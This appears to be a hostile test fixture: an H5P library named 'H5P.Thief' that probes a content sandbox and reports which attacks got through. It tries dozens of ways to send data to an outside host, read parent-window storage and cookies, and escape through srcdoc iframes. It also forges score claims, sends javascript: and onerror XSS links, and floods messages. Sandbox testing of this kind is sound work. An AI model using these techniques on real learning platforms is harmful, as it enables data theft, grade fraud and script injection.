// A library with bad intentions. What it reached, and what it could not, stands in the page of its frame.
H5P.Thief = function (params) {
  const { away, lesson } = params;
  const reached = [];
  const attempt = (name, work) => {
    try {
      const got = work();
      if (got) reached.push(name);
    } catch (error) {
      // Closed.
    }
  };
  this.getMaxScore = () => 1;
  this.attach = (place) => {
    place.innerHTML = `<p class="told"></p><img src="${away}/img"><svg><image href="${away}/svg"/></svg><video poster="${away}/poster" src="${away}/video"></video>
      <iframe src="${away}/frame"></iframe><object data="${away}/object"></object><embed src="${away}/embed">
      <form action="${away}/form" method="post" target="_top"><button id="send">send</button></form>
      <a id="link" href="${away}/link">link</a><a id="top" target="_top" href="${away}/top">top</a><a id="blank" target="_blank" ping="${away}/ping" href="${away}/blank">blank</a>
      <style>@import "${away}/import"; p { background: url(${away}/css) } @font-face { font-family: x; src: url(${away}/font) } .told { font-family: x }</style>
      <img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cscript%3Efetch('${away}/in-svg')%3C/script%3E%3Cimage href='${away}/svg-image'/%3E%3C/svg%3E">`;
    const add = (tag, settings) => Object.assign(document.head.appendChild(document.createElement(tag)), settings);
    ["stylesheet", "icon", "preload", "prefetch", "modulepreload", "manifest"].forEach((rel) => add("link", { rel, href: away + "/" + rel, as: "script" }));
    add("script", { src: away + "/script" });
    add("script", { type: "module", textContent: `import "${away}/module"` });
    add("script", { textContent: `import("${away}/imported").catch(() => {})` });
    add("base", { href: away + "/base/" });
    add("img", { src: "relative.png" });

    // The windows above.
    [window.top, window.chasqui.outer].forEach((one, number) => {
      attempt("document " + number, () => one.document.title);
      attempt("global " + number, () => (one.stolen = 1));
      attempt("storage " + number, () => one.localStorage);
      attempt("name " + number, () => one.Chasqui);
    });
    attempt("frame element", () => window.frameElement);
    attempt("own storage", () => Object.getOwnPropertyDescriptor(Window.prototype, "localStorage").get.call(window));
    attempt("own cookie", () => Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document));
    attempt("cookie", () => ((document.cookie = "a=1"), document.cookie));
    attempt("database", () => Object.getOwnPropertyDescriptor(Window.prototype, "indexedDB").get.call(window).open("chasqui"));
    attempt("origin", () => window.origin !== "null");

    // The network, by the browser's own functions where ours lie over them.
    const { contentWindow } = document.head.appendChild(document.createElement("iframe"));
    [window, contentWindow].forEach((realm) => {
      attempt("calls", () => new realm.RTCPeerConnection());
      attempt("realm", () => realm !== window && realm.document);
      attempt("fetch", () => void realm.fetch(away + "/fetch", { mode: "no-cors" }).catch(() => {}));
      attempt("beacon", () => Navigator.prototype.sendBeacon.call(realm.navigator, away + "/beacon", "x") && false);
      attempt("socket", () => void new realm.WebSocket(away.replace("http", "ws") + "/socket"));
      attempt("events", () => void new realm.EventSource(away + "/events"));
      attempt("worker", () => void new realm.Worker(URL.createObjectURL(new Blob([`fetch("${away}/worker")`]))));
      attempt("shared", () => void new realm.SharedWorker(`data:text/javascript,fetch("${away}/shared")`));
    });
    attempt("xhr", () => {
      const request = new XMLHttpRequest();
      request.open("GET", away + "/xhr");
      request.send();
    });
    attempt("popup", () => Window.prototype.open && Window.prototype.open.call(window, away + "/popup"));
    attempt("window", () => contentWindow.open(away + "/window"));
    attempt("submit", () => void HTMLFormElement.prototype.submit.call(document.forms[0]));
    attempt("top", () => (window.top.location = away + "/away"));
    attempt("replace", () => void window.top.location.replace(away + "/replace"));
    // A page of its own, in which nothing of ours lies over anything.
    const call = `const call = new RTCPeerConnection({ iceServers: [{ urls: "turn:${away.slice(7)}?transport=tcp", username: "secret", credential: "x" }] });
      call.createDataChannel("x"); call.createOffer().then((offer) => call.setLocalDescription(offer));`;
    const inside = `${call} fetch("${away}/srcdoc").catch(() => {}); new Image().src = "${away}/srcdoc-image"; parent.postMessage("in", "*"); top.postMessage({chasqui: "h5p", call: "claim", score: 1, max: 1}, "*")`;
    const page = `<script>${inside}</` + "script>";
    add("iframe", { srcdoc: page });
    document.head.appendChild(document.createElement("iframe")).setAttribute("srcdoc", page);
    document.head.appendChild(document.createElement("iframe")).setAttributeNS(null, "SRCDOC".toLowerCase(), page);
    place.insertAdjacentHTML("beforeend", `<iFrame srcDoc='${page}'></iFrame>`);
    attempt("parser", () => void document.body.append(document.adoptNode(new DOMParser().parseFromString(`<iframe srcdoc='${page}'></iframe>`, "text/html").body)));
    attempt("range", () => void document.body.append(document.createRange().createContextualFragment(`<iframe srcdoc='${page}'></iframe>`)));
    attempt("shadow", () => void (document.head.appendChild(document.createElement("div")).attachShadow({ mode: "closed" }).innerHTML = `<iframe srcdoc='${page}'></iframe>`));
    attempt("node", () => {
      const node = document.createAttribute("srcdoc");
      node.value = page;
      document.head.appendChild(document.createElement("iframe")).setAttributeNode(node);
    });
    attempt("written", () => void window.setTimeout(`document.body.dataset.text = 1`));

    // Claims that are none, in the name of whoever.
    const claims = [{ score: 5, max: 1 }, { score: -1, max: 1 }, { score: NaN, max: 1 }, { score: "1", max: "1" }, { score: 1, max: Infinity }, { score: 0, max: 1e7 }, {}];
    const lie = () => claims.forEach((claim) => [window.chasqui.outer, window.top].forEach((one) => one.postMessage(Object.assign({ chasqui: "h5p", call: "claim" }, claim), "*")));
    lie();
    window.top.postMessage({ chasqui: "h5p", call: "claim", score: 1, max: 1 }, "*");
    window.top.postMessage({ chasqui: "h5p", call: "hello" }, "*");
    window.chasqui.outer.postMessage({ chasqui: "h5p", order: { parts: [lesson], title: "mine", language: "es" } }, "*");
    window.chasqui.outer.postMessage({ chasqui: "h5p", call: "state", state: "x".repeat(70000) }, "*");
    window.chasqui.outer.postMessage({ chasqui: "h5p", call: "height", height: -5 }, "*");
    window.chasqui.outer.postMessage({ chasqui: "h5p", call: "link", address: "javascript:alert(1)" }, "*");
    window.chasqui.outer.postMessage({ chasqui: "h5p", call: "link", address: "https://x.test/<img src=x onerror=alert(1)>" }, "*");
    ["constructor", "__proto__", "toString"].forEach((call) => window.chasqui.outer.postMessage({ chasqui: "h5p", call }, "*"));
    ["link", "top", "blank", "send"].forEach((id) => document.getElementById(id).click());
    setTimeout(() => {
      place.querySelector(".told").textContent = reached.join(", ") || "nothing";
      document.body.dataset.tried = "1";
    }, 300);
    const button = (text, onclick) => place.append(Object.assign(document.createElement("button"), { type: "button", textContent: text, onclick }));
    button("lie", () => {
      lie();
      window.chasqui.post("claim", { score: 1, max: 1 });
    });
    button("flood", () => {
      for (let number = 0; number < 20000; number += 1) window.chasqui.post("claim", { score: 1, max: 1 });
    });
    button("refresh", () => add("meta", { httpEquiv: "refresh", content: `0; url=${away}/refresh` }));
    button("leave", () => (window.location.href = away + "/leave"));
    button("data", () => (window.location.href = `data:text/html,<script>fetch("${away}/data")</` + "script>"));
  };
};
